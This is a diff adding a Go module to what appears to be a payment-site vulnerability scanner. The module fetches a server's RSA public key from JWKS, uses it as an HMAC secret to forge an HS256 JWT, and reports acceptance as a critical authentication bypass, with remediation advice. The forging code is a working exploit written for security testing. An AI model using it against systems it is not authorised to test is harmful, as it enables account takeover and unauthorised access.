@@ -0,0 +1,291 @@
+package scanner
+
+import (
+	"crypto/hmac"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"math/big"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	"github.com/SpaceLeam/web-Payment-scanner/internal/models"
+	"github.com/SpaceLeam/web-Payment-scanner/internal/utils"
+)
+
+// jwk is the subset of a JSON Web Key this package needs to rebuild an RSA
+// public key: either an x5c certificate chain, or a bare RSA n/e pair.
+type jwk struct {
+	Kid string   `json:"kid"`
+	Kty string   `json:"kty"`
+	N   string   `json:"n"`
+	E   string   `json:"e"`
+	X5c []string `json:"x5c"`
+}
+
+type jwks struct {
+	Keys []jwk `json:"keys"`
+}
+
+type openIDConfiguration struct {
+	JWKSURI string `json:"jwks_uri"`
+}
+
+// testJWTAlgConfusionRS256ToHS256 implements the classic RS256->HS256
+// key-confusion attack (see the auth0 writeup linked below): when a server
+// verifies RS256 tokens against an RSA public key it can discover itself
+// (via JWKS), but doesn't pin the verification algorithm to the key type,
+// it can be tricked into verifying an attacker-forged HS256 token using
+// that same public key - PEM-encoded - as the HMAC secret. Unlike the
+// RSA private key, the public key is, by design, not a secret at all.
+func testJWTAlgConfusionRS256ToHS256(endpoint models.Endpoint, session *models.Session, token string, rl *utils.RateLimiter, cfg *models.ScanConfig) []models.Vulnerability {
+	vulns := []models.Vulnerability{}
+
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return vulns
+	}
+
+	headerJSON, err := base64.RawURLEncoding.DecodeString(parts[0])
+	if err != nil {
+		return vulns
+	}
+	var header map[string]interface{}
+	if err := json.Unmarshal(headerJSON, &header); err != nil {
+		return vulns
+	}
+
+	alg, _ := header["alg"].(string)
+	if alg != "RS256" && alg != "RS384" && alg != "RS512" {
+		return vulns
+	}
+
+	kid, _ := header["kid"].(string)
+	pubKeyPEM, err := fetchJWTPublicKeyPEM(endpoint, session, kid, cfg)
+	if err != nil || pubKeyPEM == "" {
+		return vulns
+	}
+
+	header["alg"] = "HS256"
+	newHeaderJSON, err := json.Marshal(header)
+	if err != nil {
+		return vulns
+	}
+	newHeader := base64.RawURLEncoding.EncodeToString(newHeaderJSON)
+	signingInput := newHeader + "." + parts[1]
+
+	mac := hmac.New(sha256.New, []byte(pubKeyPEM))
+	mac.Write([]byte(signingInput))
+	forgedSignature := base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+	forgedToken := signingInput + "." + forgedSignature
+
+	client := utils.NewHTTPClientForEndpoint(10*time.Second, session, endpoint)
+	req, err := http.NewRequest(endpoint.Method, endpoint.URL, nil)
+	if err != nil {
+		return vulns
+	}
+	req.Header.Set("Authorization", "Bearer "+forgedToken)
+
+	rl.Wait(endpoint.URL)
+	resp, err := client.Do(req)
+	if err != nil {
+		return vulns
+	}
+	defer resp.Body.Close()
+	rl.RecordHTTPResponse(endpoint.URL, resp)
+
+	if resp.StatusCode != http.StatusOK {
+		return vulns
+	}
+
+	return append(vulns, models.Vulnerability{
+		Type:        "JWT Algorithm Confusion",
+		Severity:    "CRITICAL",
+		Title:       "JWT RS256->HS256 Key Confusion Accepted",
+		Description: "The server's own RSA public key was PEM-encoded and used as the HMAC secret to re-sign the token as HS256, and the forged token was accepted - the verifier doesn't pin the expected algorithm to the key type.",
+		Endpoint:    endpoint.URL,
+		Method:      endpoint.Method,
+		Proof:       fmt.Sprintf("Token re-signed with HS256 using the RSA public key (kid=%q) as the HMAC secret was accepted", kid),
+		Payload:     forgedToken,
+		Timestamp:   time.Now(),
+		CWE:         "CWE-347",
+		CVSSScore:   9.8,
+		CVSSVector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
+		Confidence:  "High",
+		Impact:      "Complete authentication bypass - attacker can forge any token using the server's own public key",
+		Remediation: `Pin the expected algorithm (and key) per verification instead of trusting the token's own "alg" header:
+
+// Go example with jwt-go:
+token, err := jwt.Parse(tokenString, func(token *jwt.Token) (interface{}, error) {
+    if _, ok := token.Method.(*jwt.SigningMethodRSA); !ok {
+        return nil, fmt.Errorf("unexpected signing method: %v", token.Header["alg"])
+    }
+    return rsaPublicKey, nil
+})`,
+		References: []string{
+			"https://cwe.mitre.org/data/definitions/347.html",
+			"https://auth0.com/blog/critical-vulnerabilities-in-json-web-token-libraries/",
+		},
+	})
+}
+
+// fetchJWTPublicKeyPEM resolves the JWKS (from cfg.JWTJWKSURI, or by
+// discovering it from endpoint's origin /.well-known/openid-configuration),
+// picks the key matching kid (or the first RSA key, if kid is empty or
+// unmatched), and PEM-encodes its public key.
+func fetchJWTPublicKeyPEM(endpoint models.Endpoint, session *models.Session, kid string, cfg *models.ScanConfig) (string, error) {
+	jwksURI := ""
+	if cfg != nil {
+		jwksURI = cfg.JWTJWKSURI
+	}
+	if jwksURI == "" {
+		discovered, err := discoverJWKSURI(endpoint, session)
+		if err != nil {
+			return "", err
+		}
+		jwksURI = discovered
+	}
+
+	set, err := fetchJWKS(jwksURI, session, endpoint)
+	if err != nil {
+		return "", err
+	}
+
+	key, ok := selectJWK(set, kid)
+	if !ok {
+		return "", fmt.Errorf("no usable RSA key found in JWKS")
+	}
+
+	pub, err := rsaPublicKeyFromJWK(key)
+	if err != nil {
+		return "", err
+	}
+
+	derBytes, err := x509.MarshalPKIXPublicKey(pub)
+	if err != nil {
+		return "", err
+	}
+	pemBytes := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: derBytes})
+	return string(pemBytes), nil
+}
+
+// discoverJWKSURI finds the JWKS endpoint by fetching the OpenID Connect
+// discovery document at endpoint's origin, over the same session/endpoint
+// TLS configuration the rest of the scan uses (self-signed test targets
+// included).
+func discoverJWKSURI(endpoint models.Endpoint, session *models.Session) (string, error) {
+	u, err := url.Parse(endpoint.URL)
+	if err != nil {
+		return "", err
+	}
+
+	discoveryURL := fmt.Sprintf("%s://%s/.well-known/openid-configuration", u.Scheme, u.Host)
+	client := utils.NewHTTPClientForEndpoint(10*time.Second, session, endpoint)
+	resp, err := client.Get(discoveryURL)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return "", fmt.Errorf("discovery document returned %d", resp.StatusCode)
+	}
+
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 64*1024))
+	if err != nil {
+		return "", err
+	}
+
+	var doc openIDConfiguration
+	if err := json.Unmarshal(body, &doc); err != nil || doc.JWKSURI == "" {
+		return "", fmt.Errorf("discovery document missing jwks_uri")
+	}
+	return doc.JWKSURI, nil
+}
+
+// fetchJWKS fetches jwksURI over the same session/endpoint TLS
+// configuration the rest of the scan uses, same reasoning as
+// discoverJWKSURI.
+func fetchJWKS(jwksURI string, session *models.Session, endpoint models.Endpoint) (*jwks, error) {
+	client := utils.NewHTTPClientForEndpoint(10*time.Second, session, endpoint)
+	resp, err := client.Get(jwksURI)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return nil, fmt.Errorf("JWKS endpoint returned %d", resp.StatusCode)
+	}
+
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 256*1024))
+	if err != nil {
+		return nil, err
+	}
+
+	var set jwks
+	if err := json.Unmarshal(body, &set); err != nil {
+		return nil, err
+	}
+	return &set, nil
+}
+
+// selectJWK returns the key matching kid, or the first RSA-capable key
+// (one with either an x5c chain or an n/e pair) if kid is empty or unmatched.
+func selectJWK(set *jwks, kid string) (jwk, bool) {
+	if kid != "" {
+		for _, k := range set.Keys {
+			if k.Kid == kid && (len(k.X5c) > 0 || (k.N != "" && k.E != "")) {
+				return k, true
+			}
+		}
+	}
+	for _, k := range set.Keys {
+		if len(k.X5c) > 0 || (k.N != "" && k.E != "") {
+			return k, true
+		}
+	}
+	return jwk{}, false
+}
+
+// rsaPublicKeyFromJWK rebuilds an *rsa.PublicKey from a JWK, preferring its
+// x5c certificate chain (the leaf certificate's public key) and falling
+// back to its bare base64url-encoded n/e pair.
+func rsaPublicKeyFromJWK(key jwk) (*rsa.PublicKey, error) {
+	if len(key.X5c) > 0 {
+		certDER, err := base64.StdEncoding.DecodeString(key.X5c[0])
+		if err != nil {
+			return nil, err
+		}
+		cert, err := x509.ParseCertificate(certDER)
+		if err != nil {
+			return nil, err
+		}
+		pub, ok := cert.PublicKey.(*rsa.PublicKey)
+		if !ok {
+			return nil, fmt.Errorf("x5c leaf certificate key is not RSA")
+		}
+		return pub, nil
+	}
+
+	nBytes, err := base64.RawURLEncoding.DecodeString(key.N)
+	if err != nil {
+		return nil, err
+	}
+	eBytes, err := base64.RawURLEncoding.DecodeString(key.E)
+	if err != nil {
+		return nil, err
+	}
+
+	return &rsa.PublicKey{
+		N: new(big.Int).SetBytes(nBytes),
+		E: int(new(big.Int).SetBytes(eBytes).Int64()),
+	}, nil
+}